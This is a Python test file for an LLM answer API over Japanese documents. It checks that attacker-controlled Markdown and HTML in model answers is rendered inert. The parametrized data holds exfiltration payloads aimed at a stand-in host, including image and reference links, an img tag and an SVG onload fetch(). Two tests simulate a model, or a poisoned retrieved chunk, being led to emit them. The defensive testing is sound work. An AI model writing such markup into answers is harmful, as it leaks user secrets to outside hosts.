"""Answers whose words are an attacker's, as a client shows them that renders Markdown and HTML."""

from __future__ import annotations

from collections.abc import Callable

import openai
import pytest
from markdown_it import MarkdownIt

from nanohana.apps.api.inert import inert
from nanohana.apps.api.tests.conftest import asked
from nanohana.documents.models import Document
from nanohana.llm.tests.scripted_server import ScriptedServer, words
from nanohana.search.models import Chunk

AWAY = "https://away.example/?d=secret"


def rendered(text: str) -> str:
    """As the more careless clients show it."""
    return str(MarkdownIt("commonmark", {"html": True, "linkify": False}).render(text))


@pytest.mark.parametrize(
    "text",
    [
        f"![図]({AWAY})",
        f"（![図]({AWAY})）",
        f"[こちら]({AWAY})",
        f"[こちら][a]\n\n[a]: {AWAY}",
        f"![図][a]\n\n[a]: {AWAY}",
        f"[a]\n\n[a]:{AWAY}",
        f"<img src='{AWAY}'>",
        f"<{AWAY}>",
        f"<!-- --><svg/onload=fetch('{AWAY}')>",
        f"[![図]({AWAY})]({AWAY})",
    ],
)
def test_nothing_is_loaded_and_no_address_is_hidden(text: str) -> None:
    for shown in (rendered(inert(text)), rendered(f"禁止する![1]{inert(text)}")):
        assert not any(tag in shown for tag in ("<img", "<a ", "<svg", "<!--")), shown


@pytest.mark.parametrize("text", [f"({AWAY})", f"[a]({AWAY})", f": {AWAY}"])
def test_the_mark_of_a_source_is_no_link_to_what_follows(text: str) -> None:
    shown = rendered(f"禁止する![1]{inert(text)}")
    assert "<a " not in shown and "<img" not in shown


def test_ordinary_words_stay_as_they_are() -> None:
    text = "旅費は、10,900円とする（別表第1［甲地方］を除く。）。\nA<Bのとき、https://www.pref.example.lg.jp/ を見る。"
    assert inert(text).replace("＜", "<") == text


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("document")
def test_what_a_model_was_led_to_write_loads_nothing_at_the_client(
    client: openai.OpenAI, scripted: ScriptedServer, use_model: Callable[[bool], None]
) -> None:
    use_model(True)
    scripted.answers(words("夏季休暇は5日です。", f"({AWAY})。", f"（![図]({AWAY})）。", f"<img src='{AWAY}'>"))
    content = asked(client).choices[0].message.content
    shown = rendered(content)
    assert "夏季休暇は5日です。[1]" in content and "away.example" in content
    assert not any(tag in shown for tag in ("<img", "<a ")), shown


@pytest.mark.django_db(transaction=True)
def test_nor_do_the_words_of_a_document(client: openai.OpenAI, document: Document) -> None:
    chunk = Chunk.objects.filter(version__document=document).first()
    assert chunk is not None
    Chunk.objects.filter(pk=chunk.pk).update(text=f"職員の夏季休暇は、5日とする（![図]({AWAY})）。")
    content = asked(client).choices[0].message.content
    assert "away.example" in content and "<img" not in rendered(content)
